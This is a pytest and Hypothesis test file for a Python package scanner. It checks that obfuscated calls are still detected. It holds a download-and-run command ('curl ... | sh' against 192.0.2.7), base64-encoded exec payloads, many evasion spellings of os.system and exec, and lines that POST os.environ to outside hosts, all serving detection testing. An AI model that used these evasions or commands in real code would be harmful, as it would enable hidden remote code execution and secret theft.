"""What runs something in Python is seen however it is spelled, and no spelling keeps a module from being read."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.formats.file_kind import FileKind
from pratique.scan.findings import ExecutionPoint
from pratique.scan.reading.contract import Ability, Deeds
from pratique.scan.reading.deeds import deeds_of
from pratique.scan.reading.harm import python_may_harm
from pratique.scan.reading.marks import groups_of
from pratique.scan.reading.python import read_python
from pratique.scan.seen import SeenFile

COMMAND = "curl -s http://192.0.2.7/p.sh | sh"
CODE = base64.b64encode(f"import os\nos.system('{COMMAND}')".encode()).decode()
HARM = frozenset(
    (
        Ability.RUNS_DOWNLOADED,
        Ability.RUNS_DECODED,
        Ability.LOADS_DECODED,
        Ability.SENDS_SECRETS,
        Ability.SENDS_SYSTEM,
        Ability.RESOLVES_SECRETS,
    )
)


def abilities(code: str, point: ExecutionPoint = ExecutionPoint.START) -> frozenset[Ability]:
    content = code.encode()
    return frozenset(deeds_of(SeenFile("a/__init__.py", FileKind.PYTHON, content, len(content), "", point)).abilities)


STARTS = [
    "import os\nos . system({c})",
    "import os as o\no.system({c})",
    "import os\nx = os\nx.system({c})",
    "from os  import system\nsystem({c})",
    "from os import(system)\nsystem({c})",
    "from os import *\nsystem({c})",
    "import posix\nposix.system({c})",
    "import shutil\nshutil.os.system({c})",
    "import os\nos.__dict__.get('system')({c})",
    "import os\nos.__dict__['sys' + 'tem']({c})",
    "import os\nvars(os)['system']({c})",
    "import os\nvars(os).get('system')({c})",
    "import os\ngetattr(os, 'sys' + 'tem')({c})",
    "import os as o\nn = 'metsys'[::-1]\ngetattr(o, n)({c})",
    "import os\nos.__getattribute__('system')({c})",
    "import os\nobject.__getattribute__(os, 'system')({c})",
    "import os, operator\noperator.attrgetter('system')(os)({c})",
    "import sys\nsys.modules['o' + 's'].system({c})",
    "import os\nglobals()['os'].system({c})",
    "import\x0csubprocess\nsubprocess.run({c}, shell=True)",
    "import sys,\\\n subprocess\nsubprocess.run({c}, shell=True)",
    "import asyncio\nasyncio.run(asyncio.create_subprocess_shell({c}))",
    "import asyncio\nasync def go():\n    await asyncio.subprocess.create_subprocess_shell({c})\nasyncio.run(go())",
    "import importlib\nimportlib.import_module('o' + 's').system({c})",
    "__import__('subprocess').call({c}, shell=True)",
    "import ctypes\nctypes.CDLL(None).system({c})",
    "import os, threading\nthreading.Thread(target=os.system, args=({c},)).start()",
    "import os, functools\nfunctools.partial(os.system, {c})()",
    "import os\nlist(map(os.system, [{c}]))",
    "import os\n(lambda: os.system)()({c})",
    "import os\nfor f in (os.system,): f({c})",
    "import os\nruns = {{'a': os.system}}\nruns['a']({c})",
    "import os\ndef go(run=os.system):\n    run({c})\ngo()",
    "import os\nclass A: pass\nA.run = os.system\nA.run({c})",
    "import os\n(os.system if os else None)({c})",
    "import os\nos.sy\ufb06em({c})",
]
EVALUATES = [
    "exec    ({c})",
    "(exec)({c})",
    "exec\\\n({c})",
    "for f in [exec]: f({c})",
    "[f({c}) for f in [exec]]",
    "[exec][0]({c})",
    "{{'a': exec}}['a']({c})",
    "f = exec\nf({c})",
    "(f := exec)({c})",
    "__builtins__['exec']({c})",
    "__builtins__.exec({c})",
    "__builtins__.__dict__['ex' + 'ec']({c})",
    "import builtins\nbuiltins.exec({c})",
    "import builtins as b\ngetattr(b, 'ex' + 'ec')({c})",
    "import builtins\nvars(builtins)['exec']({c})",
    "globals()['__builtins__']['exec']({c})",
    "globals()['__builtins__'].exec({c})",
    "list(map(exec, [{c}]))",
    "exec(compile({c}, 'a', 'exec'))",
    "eval(compile({c}, 'a', 'exec'))",
    "import types\ntypes.FunctionType(compile({c}, 'a', 'exec'), {{}})()",
]


@pytest.mark.parametrize("form", STARTS, ids=range(len(STARTS)))
def test_a_command_that_fetches_and_runs_is_seen_however_its_call_is_spelled(form):
    assert Ability.RUNS_DOWNLOADED in abilities(form.format(c=repr(COMMAND)) + "\n")


@pytest.mark.parametrize("form", EVALUATES, ids=range(len(EVALUATES)))
def test_decoded_text_that_is_evaluated_is_seen_however_the_call_is_spelled(form):
    assert Ability.RUNS_DECODED in abilities("import base64\n" + form.format(c=f"base64.b64decode('{CODE}')") + "\n")


@pytest.mark.parametrize(
    "code",
    [
        "from http import client\nclient.HTTPSConnection('192.0.2.7').request('POST', '/', str(os.environ))",
        "from http import(client)\nc = client.HTTPSConnection('192.0.2.7')\nc.request('POST', '/', str(os.environ))",
        "import urllib \\\n  . request as r\nr.urlopen('https://drop.example.test', data=str(os . environ).encode())",
    ],
    ids=["from", "brackets", "continued"],
)
def test_the_environment_that_is_sent_is_seen_however_the_module_is_imported(code):
    assert Ability.SENDS_SECRETS in abilities(f"import os\n{code}\n")


@pytest.mark.parametrize(
    "code",
    [
        "import torch\nmodel.eval()\n",
        "import sys\nclass A:\n    def system(self):\n        return sys.platform\n",
        "import requests\n'An operating system for requests.'\n",
        "x = getattr(self, 'name', None)\ny = self.__dict__.get('system_name')\n",
        "import os\nhas = getattr(os, 'fspath', None)\n",
    ],
    ids=["method", "own method", "prose", "own attributes", "attribute of os"],
)
def test_a_module_that_runs_and_sends_nothing_is_not_parsed(code):
    assert not python_may_harm(code, groups_of(code, FileKind.PYTHON))


BLANKS = st.sampled_from(["", " ", "  ", "\t", "\x0c", " \\\n", "\\\n   ", "    "])
BREAKS = st.sampled_from(["", " ", "\n", " # a word\n   ", "\t"])
IMPORTS = st.sampled_from(
    [
        ("import os", "os{a}.{b}system"),
        ("import{s}os", "os{a}.{b}system"),
        ("import os{s}as{s}q", "q{a}.{b}system"),
        ("from{s}os{s}import{s}system", "system"),
        ("from os import{b}(system{b}as{s}q)", "q"),
        ("from os import (path,{b}system)", "system"),
        ("import os", "getattr{a}({b}os{b},{b}'sys'{b}'tem')"),
        ("import os", "getattr{a}({b}os{b},{b}'sys'{b}+{b}'tem')"),
        ("import os", "os{a}.{b}__dict__{a}['system']"),
        ("import os", "vars{a}({b}os{b}){a}['s' + 'ystem']"),
        ("import sys,{s}subprocess", "subprocess{a}.{b}getoutput"),
        ("from{s}subprocess{s}import getoutput{s}as q", "q"),
        ("", "__import__{a}('os').system"),
        ("import importlib", "importlib{a}.{b}import_module('o' 's').system"),
        ("import builtins", "builtins{a}.{b}__import__('os').popen"),
    ]
)
CALLS = st.sampled_from(["({f}{a}({b}{c}{b}))", "[({f}){a}({c})]", "(lambda: {f})(){a}({c})", "(q := ({f})){a}({c})"])
TEXTS = st.sampled_from(
    [
        repr(COMMAND),
        "'cur' 'l -s http://192.0.2.7/p.sh | s' + 'h'",
        f"bytes.fromhex('{COMMAND.encode().hex()}').decode()",
        f"{COMMAND[::-1]!r}[::-1]",
        "''.join(['curl -s http://192.0.2.7/p.sh ', '| sh'])",
    ]
)


@settings(max_examples=250, deadline=None)
@given(IMPORTS, CALLS, TEXTS, BLANKS, BREAKS, st.sampled_from([" ", "  ", "\t", "\x0c", " \\\n "]))
def test_whatever_reading_finds_harmful_has_passed_the_sieve(names, call, text, a, b, s):
    module, called = (part.format(a=a, b=b, s=s) for part in names)
    code = f"{module}\n{call.format(f=called, c=text, a=a, b=b)}\n"
    deeds = Deeds(ExecutionPoint.START)
    read = read_python(code, deeds, groups_of(code, FileKind.PYTHON))

    assert read is None or Ability.RUNS_DOWNLOADED in deeds.found, code
    if HARM & set(deeds.found):
        assert python_may_harm(code, groups_of(code, FileKind.PYTHON)), code
